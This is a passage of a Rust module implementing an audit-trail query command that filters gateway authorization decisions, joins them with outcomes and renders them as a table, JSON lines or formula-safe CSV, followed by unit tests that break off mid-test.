//! `audit query`: finds decisions in a trail by time, decision, vendor,
//! caller, target or policy, joins each with its outcome, and renders the
//! rows as a table, JSON lines or CSV.
//!
//! A query reads; it does **not** verify the chain (that is
//! [`super::verify::verify_files`]): run `audit verify` first when the answer
//! must be evidence. A malformed line is skipped and counted, not fatal.

use std::collections::HashMap;
use std::fmt::Write as _;
use std::path::PathBuf;
use std::str::FromStr;
use std::time::{Duration, SystemTime};

use serde::Serialize;
use serde_json::{Map, Value};

use super::files::{self, FilesError, Line, LineReader};
use super::pseudonym::PseudonymKey;
use super::record::{kind, DecisionRecord, OutcomeRecord, Sealed};

/// An overall decision.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum DecisionValue {
    /// Every target allowed.
    Allow,
    /// At least one target denied, or the call refused.
    Deny,
}

impl DecisionValue {
    /// As written in the trail.
    pub fn as_str(self) -> &'static str {
        match self {
            Self::Allow => "allow",
            Self::Deny => "deny",
        }
    }
}

impl FromStr for DecisionValue {
    type Err = QueryError;

    fn from_str(text: &str) -> Result<Self, QueryError> {
        match text {
            "allow" => Ok(Self::Allow),
            "deny" => Ok(Self::Deny),
            other => Err(QueryError::Decision(other.to_owned())),
        }
    }
}

/// Which decisions to list; every criterion given must hold.
#[derive(Debug, Clone, Default)]
pub struct QueryFilter {
    /// Decisions at or after this time.
    pub since: Option<SystemTime>,
    /// Decisions before this time.
    pub until: Option<SystemTime>,
    /// Decisions with this overall decision.
    pub decision: Option<DecisionValue>,
    /// Decisions about calls to this vendor profile.
    pub vendor: Option<String>,
    /// Decisions about calls by this caller (principal id).
    pub caller: Option<String>,
    /// Decisions naming this target: a raw id (`u-1`), `type::id`
    /// (`Kore::User::u-1`) or a pseudonym. In a pseudonymized record the raw
    /// id is compared as its pseudonym, which needs the pseudonym key.
    pub target: Option<String>,
    /// Decisions that this policy id determined for some target.
    pub policy: Option<String>,
}

/// A query could not run.
#[derive(Debug, thiserror::Error)]
pub enum QueryError {
    /// A trail file or directory could not be read.
    #[error(transparent)]
    Files(#[from] FilesError),
    /// A time filter is not a date or an RFC 3339 time.
    #[error("`{text}` is not a time: use RFC 3339 (2026-11-22T19:20:00Z, 2026-11-22T20:20:00+01:00) or a date (2026-11-22, midnight UTC)")]
    Time {
        /// What was given.
        text: String,
    },
    /// A decision filter is neither `allow` nor `deny`.
    #[error("`{0}` is not a decision: use allow or deny")]
    Decision(String),
}

/// Parses a `--since`/`--until` value: RFC 3339 with `Z` or a numeric
/// offset (`2026-11-22T19:20:00Z`, `2026-12-01T00:00:00+01:00`; fractions,
/// lower-case `t`/`z` and a space for `T` accepted; no offset means UTC) or
/// a date (`2026-11-22`, meaning midnight UTC).
///
/// # Errors
/// Neither form.
pub fn parse_time(text: &str) -> Result<SystemTime, QueryError> {
    let refused = || QueryError::Time {
        text: text.to_owned(),
    };
    let upper = text.trim().to_ascii_uppercase();
    let is_date = upper.len() == 10 && upper.bytes().filter(|b| *b == b'-').count() == 2;
    if is_date {
        return humantime::parse_rfc3339(&format!("{upper}T00:00:00Z")).map_err(|_| refused());
    }
    let (local, east) = split_offset(&upper).ok_or_else(refused)?;
    // humantime reads UTC only, and lets some trailing text through: check
    // the shape here, read the local time as UTC, then take the offset off.
    let fraction = local.get(19..).unwrap_or("");
    let fraction_ok = fraction.is_empty()
        || (fraction.len() > 1
            && fraction.starts_with('.')
            && fraction[1..].bytes().all(|b| b.is_ascii_digit()));
    if local.len() < 19 || !fraction_ok {
        return Err(refused());
    }
    let as_utc = humantime::parse_rfc3339_weak(&format!("{local}Z")).map_err(|_| refused())?;
    let shift = Duration::from_secs(east.unsigned_abs());
    let utc = if east >= 0 {
        as_utc.checked_sub(shift)
    } else {
        as_utc.checked_add(shift)
    };
    utc.ok_or_else(refused)
}

/// `…T19:20:00+01:00` → (`…T19:20:00`, 3600): the local time and its offset
/// east of UTC in seconds (`Z`, `-00:00` and no offset: 0).
fn split_offset(text: &str) -> Option<(&str, i64)> {
    if let Some(local) = text.strip_suffix('Z') {
        return Some((local, 0));
    }
    let at = text.len().checked_sub(6)?;
    let (local, offset) = text.split_at_checked(at)?;
    let sign = match offset.as_bytes() {
        [b'+', _, _, b':', _, _] => 1,
        [b'-', _, _, b':', _, _] => -1,
        // No offset (a date's `-` is further left): UTC.
        _ => return Some((text, 0)),
    };
    let number = |range: std::ops::Range<usize>| -> Option<i64> {
        let part = offset.get(range)?;
        part.bytes().all(|b| b.is_ascii_digit()).then_some(())?;
        part.parse().ok()
    };
    let (hours, minutes) = (number(1..3)?, number(4..6)?);
    if hours > 23 || minutes > 59 {
        return None;
    }
    Some((local, sign * (hours * 3600 + minutes * 60)))
}

/// One decision with its outcome.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Row {
    /// When it was decided.
    pub time: String,
    /// The client's request id (`x-request-id`); clients may reuse one.
    pub request_id: String,
    /// The gateway-made id linking the decision to its outcome; `None` in
    /// trails written before it existed (they link by `request_id`).
    pub decision_id: Option<String>,
    /// The vendor profile.
    pub vendor: String,
    /// The principal's id; `-` when the call was refused before the caller
    /// was identified.
    pub caller: String,
    /// Every target as `type::id`.
    pub targets: Vec<String>,
    /// `allow` or `deny`.
    pub decision: String,
    /// `enforce` or `shadow`.
    pub mode: String,
    /// `forwarded` or `refused`.
    pub effect: String,
    /// The policies that determined any target's decision, first seen first.
    pub policies: Vec<String>,
    /// The reasons recorded.
    pub reasons: Vec<String>,
    /// The upstream's (or gateway's 502/504) status from the outcome, or the
    /// status of the refusal.
    pub status: Option<u16>,
    /// The upstream's latency from the outcome.
    pub latency_ms: Option<u64>,
    /// The vendor's own request id from the outcome (Kore.ai's `requestId`).
    pub vendor_request_id: Option<String>,
}

/// The rows found, and what the query could not read.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct QueryOutput {
    /// Matching decisions in trail order.
    pub rows: Vec<Row>,
    /// Lines that are not records (malformed, empty, too long) and were
    /// skipped.
    pub skipped_lines: u64,
    /// Warnings for the reviewer (skipped lines, unsearchable records).
    pub warnings: Vec<String>,
}

/// Lists the decisions in `paths` (files read in the given order, a
/// directory as its `*.jsonl` oldest first) that match `filter`, each joined
/// with its `outcome` (which may come later, in the same or a later file) by
/// [`JoinKey`].
/// Streams the files; only matching rows are kept. Does not verify the
/// chain.
///
/// # Errors
/// A file or directory cannot be read.
pub fn query_files(
    paths: &[PathBuf],
    filter: &QueryFilter,
    pseudonym_key: Option<&PseudonymKey>,
) -> Result<QueryOutput, QueryError> {
    let matcher = Matcher::new(filter, pseudonym_key);
    let mut output = QueryOutput::default();
    let mut awaiting_outcome: HashMap<JoinKey, usize> = HashMap::new();
    let mut counts = Counts::default();
    for path in files::trail_files(paths)? {
        let mut reader = LineReader::open(&path)?;
        loop {
            let line = reader.next_line().map_err(|source| FilesError {
                path: path.clone(),
                source,
            })?;
            let bytes = match line {
                None => break,
                Some(Line::Complete(bytes) | Line::Unterminated(bytes)) if !bytes.is_empty() => {
                    bytes
                }
                Some(_) => {
                    output.skipped_lines += 1;
                    continue;
                }
            };
            let Ok(record) = serde_json::from_slice::<Map<String, Value>>(&bytes) else {
                output.skipped_lines += 1;
                continue;
            };
            match text(&record, "kind") {
                kind::DECISION => {
                    let Ok(decision) = Sealed::<DecisionRecord>::from_map(&record) else {
                        output.skipped_lines += 1;
                        continue;
                    };
                    if matcher.matches(&decision, &mut counts) {
                        let key =
                            JoinKey::of(&decision.record.decision_id, &decision.record.request_id);
                        awaiting_outcome.insert(key, output.rows.len());
                        output.rows.push(row(&decision));
                    }
                }
                kind::OUTCOME => {
                    let Ok(outcome) = Sealed::<OutcomeRecord>::from_map(&record) else {
                        output.skipped_lines += 1;
                        continue;
                    };
                    let outcome = outcome.record;
                    let key = JoinKey::of(&outcome.decision_id, &outcome.request_id);
                    if let Some(index) = awaiting_outcome.remove(&key) {
                        join_outcome(&mut output.rows[index], &outcome);
                    }
                }
                _ => {}
            }
        }
    }
    output.warnings = counts.warnings(output.skipped_lines);
    Ok(output)
}

/// What links a decision to its outcome (and later records): the
/// gateway-made `decision_id`, unique per decision; in an older trail
/// without it, the client's `request_id`, which a client may reuse.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub enum JoinKey {
    /// The record's `decision_id`.
    Decision(String),
    /// The record's `request_id` (it has no `decision_id`).
    Request(String),
}

impl JoinKey {
    /// The key of a record with these ids (`decision_id` empty in older
    /// trails).
    pub fn of(decision_id: &str, request_id: &str) -> Self {
        if decision_id.is_empty() {
            Self::Request(request_id.to_owned())
        } else {
            Self::Decision(decision_id.to_owned())
        }
    }
}

#[derive(Default)]
struct Counts {
    untimed: u64,
    pseudonymized_unsearchable: u64,
}

impl Counts {
    fn warnings(&self, skipped: u64) -> Vec<String> {
        let mut warnings = Vec::new();
        if skipped > 0 {
            warnings.push(format!(
                "{skipped} line(s) are not records and were skipped; run `audit verify` on the trail"
            ));
        }
        if self.untimed > 0 {
            warnings.push(format!(
                "{} decision(s) without a readable time were left out of the time filter",
                self.untimed
            ));
        }
        if self.pseudonymized_unsearchable > 0 {
            warnings.push(format!(
                "{} pseudonymized decision(s) could not be searched by target: pass the pseudonym key",
                self.pseudonymized_unsearchable
            ));
        }
        warnings
    }
}

struct Matcher<'a> {
    filter: &'a QueryFilter,
    /// The target filter as a pseudonym, when a key is given.
    target_pseudonym: Option<String>,
}

impl<'a> Matcher<'a> {
    fn new(filter: &'a QueryFilter, key: Option<&PseudonymKey>) -> Self {
        let target_pseudonym = key
            .zip(filter.target.as_deref())
            .map(|(key, target)| key.pseudonym(target));
        Self {
            filter,
            target_pseudonym,
        }
    }

    fn matches(&self, sealed: &Sealed<DecisionRecord>, counts: &mut Counts) -> bool {
        let filter = self.filter;
        let record = &sealed.record;
        if filter
            .decision
            .is_some_and(|d| d.as_str() != record.decision)
            || filter.vendor.as_ref().is_some_and(|v| *v != record.vendor)
        {
            return false;
        }
        if let Some(caller) = &filter.caller {
            if record.principal.as_ref().map(|p| &p.id) != Some(caller) {
                return false;
            }
        }
        if filter.since.is_some() || filter.until.is_some() {
            let Ok(time) = humantime::parse_rfc3339(&sealed.time) else {
                counts.untimed += 1;
                return false;
            };
            if filter.since.is_some_and(|since| time < since)
                || filter.until.is_some_and(|until| time >= until)
            {
                return false;
            }
        }
        if let Some(policy) = &filter.policy {
            if !record.targets.iter().any(|t| t.policies.contains(policy)) {
                return false;
            }
        }
        if let Some(target) = &filter.target {
            let found = record.targets.iter().any(|t| {
                if record.pseudonymized {
                    t.id == *target || self.target_pseudonym.as_deref() == Some(t.id.as_str())
                } else {
                    t.id == *target || format!("{}::{}", t.entity_type, t.id) == *target
                }
            });
            if !found {
                if record.pseudonymized && self.target_pseudonym.is_none() {
                    counts.pseudonymized_unsearchable += 1;
                }
                return false;
            }
        }
        true
    }
}

fn text<'r>(record: &'r Map<String, Value>, field: &str) -> &'r str {
    record.get(field).and_then(Value::as_str).unwrap_or("")
}

fn row(sealed: &Sealed<DecisionRecord>) -> Row {
    let record = &sealed.record;
    let mut policies: Vec<String> = Vec::new();
    for policy in record.targets.iter().flat_map(|t| &t.policies) {
        if !policies.contains(policy) {
            policies.push(policy.clone());
        }
    }
    Row {
        time: sealed.time.clone(),
        request_id: record.request_id.clone(),
        decision_id: Some(record.decision_id.clone()).filter(|id| !id.is_empty()),
        vendor: record.vendor.clone(),
        caller: record
            .principal
            .as_ref()
            .map_or_else(|| "-".to_owned(), |p| p.id.clone()),
        targets: record
            .targets
            .iter()
            .map(|t| format!("{}::{}", t.entity_type, t.id))
            .collect(),
        decision: record.decision.clone(),
        mode: record.mode.clone(),
        effect: record.effect.clone(),
        policies,
        reasons: record.reasons.clone(),
        status: record.status,
        latency_ms: None,
        vendor_request_id: None,
    }
}

fn join_outcome(row: &mut Row, outcome: &OutcomeRecord) {
    row.status = Some(outcome.status);
    row.latency_ms = Some(outcome.latency_ms);
    row.vendor_request_id.clone_from(&outcome.vendor_request_id);
}

/// The table's width budget: an 100-column terminal.
const TABLE_WIDTH: usize = 100;

/// Renders rows as an aligned table for a terminal of 100 columns: TIME
/// (to the second), REQUEST ID (its end, where UUIDv7s differ), VENDOR,
/// CALLER, TARGETS (ids of the first two, then `+N`; types are in the JSON
/// and CSV forms), DECISION (`*`: shadow mode, not enforced), POLICIES,
/// STATUS. Long cells are cut with `…`; control characters are shown
/// escaped, so a crafted id cannot drive the terminal.
pub fn render_table(rows: &[Row]) -> String {
    const HEADERS: [&str; 8] = [
        "TIME",
        "REQUEST ID",
        "VENDOR",
        "CALLER",
        "TARGETS",
        "DECISION",
        "POLICIES",
        "STATUS",
    ];
    // The narrowest each column may become; equal to the natural width for
    // the columns that are never cut.
    const MIN: [usize; 8] = [20, 10, 6, 8, 12, 8, 8, 6];
    let cells: Vec<[String; 8]> = rows.iter().map(table_cells).collect();
    let mut widths: [usize; 8] = std::array::from_fn(|i| {
        cells
            .iter()
            .map(|row| row[i].chars().count())
            .chain([HEADERS[i].len()])
            .max()
            .unwrap_or(0)
    });
    let total = |w: &[usize; 8]| w.iter().sum::<usize>() + 2 * (w.len() - 1);
    while total(&widths) > TABLE_WIDTH {
        let widest = (0..widths.len())
            .filter(|&i| widths[i] > MIN[i])
            .max_by_key(|&i| widths[i] - MIN[i]);
        match widest {
            Some(i) => widths[i] -= 1,
            None => break,
        }
    }
    let mut out = String::new();
    let headers = HEADERS.map(str::to_owned);
    for row in std::iter::once(&headers).chain(&cells) {
        let mut line = String::new();
        for (i, cell) in row.iter().enumerate() {
            if i > 0 {
                line.push_str("  ");
            }
            let fitted = match i {
                1 => fit_end(cell, widths[i]),
                4 => fit_keeping_count(cell, widths[i]),
                _ => fit(cell, widths[i]),
            };
            let _ = write!(line, "{fitted:<width$}", width = widths[i]);
        }
        out.push_str(line.trim_end());
        out.push('\n');
    }
    if rows.is_empty() {
        out.push_str("(no matching decisions)\n");
    } else if rows.iter().any(|r| r.mode == "shadow") {
        out.push_str("* shadow mode: recorded, not enforced\n");
    }
    out
}

fn table_cells(row: &Row) -> [String; 8] {
    let time = match row.time.split_once('.') {
        // 2026-11-22T19:20:00.123Z → 2026-11-22T19:20:00Z
        Some((seconds, _)) => format!("{seconds}Z"),
        None => row.time.clone(),
    };
    let ids: Vec<&str> = row
        .targets
        .iter()
        .map(|t| t.rsplit_once("::").map_or(t.as_str(), |(_, id)| id))
        .collect();
    let mut targets = ids.iter().take(2).copied().collect::<Vec<_>>().join(", ");
    if ids.len() > 2 {
        let _ = write!(targets, " +{}", ids.len() - 2);
    }
    let shadow = if row.mode == "shadow" { "*" } else { "" };
    [
        time,
        row.request_id.clone(),
        row.vendor.clone(),
        row.caller.clone(),
        targets,
        format!("{}{shadow}", row.decision),
        row.policies.join(","),
        row.status.map_or_else(|| "-".to_owned(), |s| s.to_string()),
    ]
    .map(|cell| escape_controls(&cell))
}

fn escape_controls(cell: &str) -> String {
    if !cell.chars().any(char::is_control) {
        return cell.to_owned();
    }
    cell.chars()
        .map(|c| {
            if c.is_control() {
                c.escape_default().to_string()
            } else {
                c.to_string()
            }
        })
        .collect()
}

/// The cell cut to `width` characters, keeping its start.
fn fit(cell: &str, width: usize) -> String {
    if cell.chars().count() <= width {
        return cell.to_owned();
    }
    let kept: String = cell.chars().take(width.saturating_sub(1)).collect();
    format!("{kept}…")
}

/// A targets cell cut to `width` characters, keeping its ` +N` count.
fn fit_keeping_count(cell: &str, width: usize) -> String {
    match cell.rsplit_once(" +") {
        Some((ids, count))
            if !count.is_empty()
                && count.bytes().all(|b| b.is_ascii_digit())
                && cell.chars().count() > width =>
        {
            let suffix = format!(" +{count}");
            let room = width.saturating_sub(suffix.len());
            format!("{}{suffix}", fit(ids, room))
        }
        _ => fit(cell, width),
    }
}

/// The cell cut to `width` characters, keeping its end.
fn fit_end(cell: &str, width: usize) -> String {
    let count = cell.chars().count();
    if count <= width {
        return cell.to_owned();
    }
    let kept: String = cell.chars().skip(count + 1 - width.max(1)).collect();
    format!("…{kept}")
}

/// Renders rows as JSON Lines, one object per row with the fields of
/// [`Row`].
pub fn render_json(rows: &[Row]) -> String {
    let mut out = String::new();
    for row in rows {
        out.push_str(&serde_json::to_string(row).unwrap_or_default());
        out.push('\n');
    }
    out
}

/// Renders rows as CSV (RFC 4180: CRLF line ends, quotes doubled), with a
/// header row; `decision_id` is the last column. Lists (targets, policies,
/// reasons) are joined with `;`.
///
/// Cells come from outside the gateway (ids, caller names, reasons), so
/// none may run as a spreadsheet formula (OWASP, CSV injection): a cell, or
/// a list item, that starts with `=`, `+`, `-`, `@`, a tab or a carriage
/// return is prefixed with `'`; a cell holding a comma, `;` (the separator
/// of some locales), a quote, tab or line break is quoted, so no separator
/// inside it can start a new cell.
pub fn render_csv(rows: &[Row]) -> String {
    let mut out = String::from(
        "time,request_id,vendor,caller,targets,decision,mode,effect,policies,reasons,status,latency_ms,vendor_request_id,decision_id\r\n",
    );
    let list = |items: &[String]| {
        items
            .iter()
            .map(|item| inert(item))
            .collect::<Vec<_>>()
            .join(";")
    };
    for row in rows {
        let number = |n: Option<u64>| n.map(|n| n.to_string()).unwrap_or_default();
        let fields = [
            row.time.clone(),
            row.request_id.clone(),
            row.vendor.clone(),
            row.caller.clone(),
            list(&row.targets),
            row.decision.clone(),
            row.mode.clone(),
            row.effect.clone(),
            list(&row.policies),
            list(&row.reasons),
            number(row.status.map(u64::from)),
            number(row.latency_ms),
            row.vendor_request_id.clone().unwrap_or_default(),
            row.decision_id.clone().unwrap_or_default(),
        ];
        let quoted: Vec<String> = fields.iter().map(|f| csv_field(f)).collect();
        out.push_str(&quoted.join(","));
        out.push_str("\r\n");
    }
    out
}

/// The text with a `'` in front when a spreadsheet would read it as a
/// formula (OWASP's list of leading characters).
fn inert(text: &str) -> String {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{text}")
    } else {
        text.to_owned()
    }
}

fn csv_field(field: &str) -> String {
    let field = inert(field);
    if field.contains([',', ';', '"', '\t', '\r', '\n']) {
        format!("\"{}\"", field.replace('"', "\"\""))
    } else {
        field
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::trail::fixtures::write_trail;
    use serde_json::json;
    use std::path::Path;

    fn record(value: Value) -> Map<String, Value> {
        let Value::Object(map) = value else {
            panic!("not an object: {value}")
        };
        map
    }

    #[allow(clippy::too_many_arguments)]
    fn decision(
        n: u32,
        vendor: &str,
        caller: Option<&str>,
        targets: &[(&str, &str, &[&str])],
        decision: &str,
        mode: &str,
        refused_status: Option<u16>,
    ) -> Map<String, Value> {
        let targets: Vec<Value> = targets
            .iter()
            .map(|(ty, id, policies)| {
                json!({"type": ty, "id": id, "decision": decision, "policies": policies, "errors": []})
            })
            .collect();
        let mut r = record(json!({
            "kind": "decision",
            "time": format!("2026-11-2{n}T12:00:00.250Z"),
            "replica": "a",
            "request_id": format!("req-{n}"),
            "vendor": vendor,
            "upstream": vendor,
            "action": "Kore::Action::\"eraseUsersData\"",
            "principal": caller.map(|id| json!({"id": id, "roles": [], "source": "token"})),
            "credential": {"kind": "bearer", "fingerprint": "abcdefabcdef"},
            "client": {"ip": "127.0.0.1", "cert": false},
            "targets": targets,
            "decision": decision,
            "mode": mode,
            "effect": if refused_status.is_some() { "refused" } else { "forwarded" },
            "reasons": [format!("reason {n}")],
            "context": {},
            "policy_version": "sha256:00",
        }));
        if let Some(status) = refused_status {
            r.insert("status".into(), status.into());
            r.insert("refusal".into(), "forbidden".into());
        }
        r
    }

    fn outcome(n: u32, status: u16, vendor_request_id: Option<&str>) -> Map<String, Value> {
        let mut r = record(json!({
            "kind": "outcome", "time": format!("2026-11-2{n}T12:00:01.000Z"), "replica": "a",
            "request_id": format!("req-{n}"), "vendor": "kore", "status": status, "latency_ms": 40 + n,
        }));
        if let Some(id) = vendor_request_id {
            r.insert("vendor_request_id".into(), id.into());
        }
        r
    }

    /// Three decisions over two files; the outcome of the second is in the
    /// second file.
    fn trail(dir: &Path) -> Vec<PathBuf> {
        write_trail(
            dir,
            vec![
                decision(
                    1,
                    "kore",
                    Some("privacy-ops"),
                    &[("Kore::User", "u-1", &["allow-privacy-officer"])],
                    "allow",
                    "enforce",
                    None,
                ),
                outcome(1, 200, Some("ds-1")),
                decision(
                    2,
                    "seam",
                    Some("support"),
                    &[
                        (
                            "Seam::User",
                            "alice@example.com",
                            &["allow-privacy-officer"],
                        ),
                        ("Seam::Space", "s-9", &["allow-privacy-officer"]),
                    ],
                    "allow",
                    "shadow",
                    None,
                ),
                decision(
                    3,
                    "kore",
                    None,
                    &[("Kore::User", "u-1", &["deny-anonymous"])],
                    "deny",
                    "enforce",
                    Some(403),
                ),
                outcome(2, 504, None),
            ],
            &[3],
        )
    }

    fn ids(output: &QueryOutput) -> Vec<&str> {
        output.rows.iter().map(|r| r.request_id.as_str()).collect()
    }

    fn query(paths: &[PathBuf], filter: &QueryFilter) -> QueryOutput {
        query_files(paths, filter, None).unwrap()
    }

    #[test]
    fn every_decision_is_listed_in_order_with_its_outcome_from_any_file() {
        let dir = tempfile::tempdir().unwrap();
        let paths = trail(dir.path());
        let output = query(&paths, &QueryFilter::default());
        assert_eq!(ids(&output), ["req-1", "req-2", "req-3"]);
        assert!(output.warnings.is_empty());
        let [first, second, third] = &output.rows[..] else {
            panic!("three rows")
        };
        assert_eq!((first.status, first.latency_ms), (Some(200), Some(41)));
        assert_eq!(first.vendor_request_id.as_deref(), Some("ds-1"));
        assert_eq!(first.caller, "privacy-ops");
        assert_eq!(first.targets, ["Kore::User::u-1"]);
        assert_eq!((second.status, second.latency_ms), (Some(504), Some(42)));
        assert_eq!(second.policies, ["allow-privacy-officer"]);
        assert_eq!(second.targets.len(), 2);
        assert_eq!((third.status, third.latency_ms), (Some(403), None));
        assert_eq!(
            (third.caller.as_str(), third.effect.as_str()),
            ("-", "refused")
        );
        assert_eq!(third.reasons, ["reason 3"]);
    }

    #[test]
    fn each_filter_narrows_the_rows() {
        let dir = tempfile::tempdir().unwrap();
        let paths = trail(dir.path());
        let only = |filter: QueryFilter| -> Vec<String> {
            ids(&query(&paths, &filter))
                .into_iter()
                .map(str::to_owned)
                .collect()
        };
        let since = parse_time("2026-11-22").unwrap();
        let until = parse_time("2026-11-23T00:00:00Z").unwrap();
        assert_eq!(
            only(QueryFilter {
                since: Some(since),
                ..Default::default()
            }),
            ["req-2", "req-3"]
        );
        assert_eq!(
            only(QueryFilter {
                until: Some(until),
                ..Default::default()
            }),
            ["req-1", "req-2"]
        );
        assert_eq!(
            only(QueryFilter {
                decision: Some(DecisionValue::Deny),
                ..Default::default()
            }),
            ["req-3"]
        );
        assert_eq!(
            only(QueryFilter {
                vendor: Some("seam".into()),
                ..Default::default()
            }),
            ["req-2"]
        );
        assert_eq!(
            only(QueryFilter {
                caller: Some("support".into()),
                ..Default::default()
            }),
            ["req-2"]
        );
        assert_eq!(
            only(QueryFilter {
                target: Some("u-1".into()),
                ..Default::default()
            }),
            ["req-1", "req-3"]
        );
        assert_eq!(
            only(QueryFilter {
                target: Some("Seam::Space::s-9".into()),
                ..Default::default()
            }),
            ["req-2"]
        );
        assert_eq!(
            only(QueryFilter {
                policy: Some("deny-anonymous".into()),
                ..Default::default()
            }),
            ["req-3"]
        );
        assert!(only(QueryFilter {
            caller: Some("nobody".into()),
            ..Default::default()
        })
        .is_empty());
        // Combined: all must hold.
        let combined = QueryFilter {
            since: Some(since),
            until: Some(parse_time("2026-11-23T12:00:00.251Z").unwrap()),
            decision: Some("deny".parse().unwrap()),
            vendor: Some("kore".into()),
            target: Some("u-1".into()),
            policy: Some("deny-anonymous".into()),
            ..Default::default()
        };
        assert_eq!(only(combined.clone()), ["req-3"]);
        assert!(only(QueryFilter {
            decision: Some(DecisionValue::Allow),
            ..combined
        })
        .is_empty());
    }

    #[test]
    fn decisions_that_reuse_a_request_id_each_get_their_own_outcome_by_decision_id() {
        let dir = tempfile::tempdir().unwrap();
        let with_id = |mut record: Map<String, Value>, id: &str| {
            record.insert("decision_id".into(), id.into());
            record.insert("request_id".into(), "client-reused".into());
            record
        };
        let allow = |n| {
            decision(
                n,
                "kore",
                Some("ops"),
                &[("Kore::User", "u-1", &["p"])],
                "allow",
                "enforce",
                None,
            )
        };
        // Both calls are in flight before either outcome; the second
        // answers first.
        let paths = write_trail(
            dir.path(),
            vec![
                with_id(allow(1), "0190-first"),
                with_id(allow(2), "0190-second"),
                with_id(outcome(2, 504, None), "0190-second"),
                with_id(outcome(1, 200, Some("ds-1")), "0190-first"),
            ],
            &[],
        );
        let output = query(&paths, &QueryFilter::default());
        type Joined<'r> = (Option<&'r str>, &'r str, Option<u16>, Option<&'r str>);
        let joined: Vec<Joined<'_>> = output
            .rows
            .iter()
            .map(|r| {
                (
                    r.decision_id.as_deref(),
                    r.request_id.as_str(),
                    r.status,
                    r.vendor_request_id.as_deref(),
                )
            })
            .collect();
        assert_eq!(
            joined,
            [
                (Some("0190-first"), "client-reused", Some(200), Some("ds-1")),
                (Some("0190-second"), "client-reused", Some(504), None),
            ]
        );
        // An older trail without decision ids still links by request id.
        let older = tempfile::tempdir().unwrap();
        let old = query(&trail(older.path()), &QueryFilter::default());
        assert_eq!(old.rows[0].decision_id, None);
        assert_eq!(old.rows[0].status, Some(200));
    }

    #[test]
    fn since_and_until_accept_rfc_3339_with_an_offset() {
        let utc = |text: &str| parse_time(text).unwrap();
        assert_eq!(
            utc("2026-12-01T00:00:00+01:00"),
            utc("2026-11-30T23:00:00Z")
        );
        assert_eq!(
            utc("2026-11-30T18:30:00.250-05:30"),
            utc("2026-12-01T00:00:00.250Z")
        );
        assert_eq!(utc("2026-12-01t00:00:00z"), utc("2026-12-01T00:00:00Z"));
        assert_eq!(utc("2026-12-01 00:00:00-00:00"), utc("2026-12-01"));
        assert_eq!(utc("2026-12-01T00:00:00+00:00"), utc("2026-12-01"));
        for bad in [
            "2026-12-01T00:00:00+1:00",
            "2026-12-01T00:00:00+24:00",
            "2026-12-01T00:00:00+01:60",
            "2026-12-01T00:00:00+0100",
            "2026-12-01T00:00:00Zjunk",
            "2026-12-01T00:00:00.Z",
            "2026-12-01T00:00+01:00",
            "2026-12-01+01:00",
        ] {
            assert!(parse_time(bad).is_err(), "{bad}");
        }
        let message = parse_time("tomorrow").unwrap_err().to_string();
        assert!(message.contains("+01:00"), "{message}");
    }

    #[test]
    fn times_and_decisions_are_parsed_or_refused() {
        assert!(parse_time("2026-11-22T19:20:00.123Z").is_ok());
        assert!(parse_time("2026-11-22 19:20:00").is_ok());
        assert!(matches!(
            parse_time("yesterday"),
            Err(QueryError::Time { .. })
        ));
        assert!("maybe".parse::<DecisionValue>().is_err());
    }

    #[test]
    fn a_pseudonymized_target_is_found_with_the_key() {
        let dir = tempfile::tempdir().unwrap();
        let key_path = dir.path().join("pseudonym.key");
        std::fs::write(&key_path, "k".repeat(32)).unwrap();
        let key = PseudonymKey::load(&key_path).unwrap();
        let mut hidden = decision(
            4,
            "kore",
            Some("ops"),
            &[("Kore::User", &key.pseudonym("u-1"), &["p"])],
            "allow",
            "enforce",
            None,
        );
        hidden.insert("pseudonymized".into(), true.into());
        let trail_dir = dir.path().join("trail");
        std::fs::create_dir(&trail_dir).unwrap();
        let paths = write_trail(&trail_dir, vec![hidden], &[]);
        let filter = QueryFilter {
            target: Some("u-1".into()),
            ..Default::default()
        };
        let found = query_files(&paths, &filter, Some(&key)).unwrap();
        assert_eq!(ids(&found), ["req-4"]);
        let without_key = query(&paths, &filter);
        assert!(without_key.rows.is_empty());
        assert!(
            without_key.warnings[0].contains("pseudonym key"),
            "{:?}",
            without_key.warnings
        );
        let by_pseudonym = QueryFilter {
            target: Some(key.pseudonym("u-1")),
            ..Default::default()
        };
        assert_eq!(ids(&query(&paths, &by_pseudonym)), ["req-4"]);
    }

    #[test]
    fn malformed_lines_are_skipped_and_counted() {
        let dir = tempfile::tempdir().unwrap();
        let paths = trail(dir.path());
        let mut text = std::fs::read_to_string(&paths[0]).unwrap();
        text.insert_str(0, "not json\n\n");
        text.push_str("{\"kind\":\"decis");
        std::fs::write(&paths[0], text).unwrap();
        let output = query(&paths, &QueryFilter::default());
        assert_eq!(output.rows.len(), 3);
        assert_eq!(output.skipped_lines, 3);
        assert!(
            output.warnings[0].contains("3 line(s)"),
            "{:?}",
            output.warnings
        );
    }

    fn sample_row() -> Row {
        Row {
            time: "2026-11-22T19:20:00.123Z".into(),
            request_id: "019a3b4c5d6e7f8091a2b3c4d5e6f708".into(),
            decision_id: Some("019a3b4c-5d6e-7f80-91a2-b3c4d5e6f709".into()),
            vendor: "kore".into(),
            caller: "privacy-ops".into(),
            targets: vec![
                "Kore::User::u-1".into(),
                "Kore::User::alice@example.com".into(),
                "Kore::User::u-3".into(),
                "Kore::User::u-4".into(),
            ],
            decision: "deny".into(),
            mode: "shadow".into(),
            effect: "forwarded".into(),
            policies: vec![
                "forbid-account-owner".into(),
                "allow-privacy-officer".into(),
            ],
            reasons: vec!["owner, \"primary\"\nsee policy".into()],
            status: Some(200),
            latency_ms: Some(87),
            vendor_request_id: Some("ds-77".into()),
        }
    }

    #[test]
    fn the_table_is_aligned_and_fits_100_columns() {
        let mut long = sample_row();
        long.caller = format!("{}\u{1b}[31m", "x".repeat(60));
        let mut short = sample_row();
        short.targets.truncate(1);
        short.mode = "enforce".into();
        short.status = None;
        let table = render_table(&[long, short]);
        let lines: Vec<&str> = table.lines().collect();
        assert!(
            lines[0].starts_with("TIME                  REQUEST ID"),
            "{table}"
        );
        for line in &lines {
            assert!(
                line.chars().count() <= 100,
                "{} > 100: {line}",
                line.chars().count()
            );
            assert!(!line.contains('\u{1b}'), "{line}");
        }
        let column = |line: &str, header: &str| {
            lines[0].find(header).map(|at| {
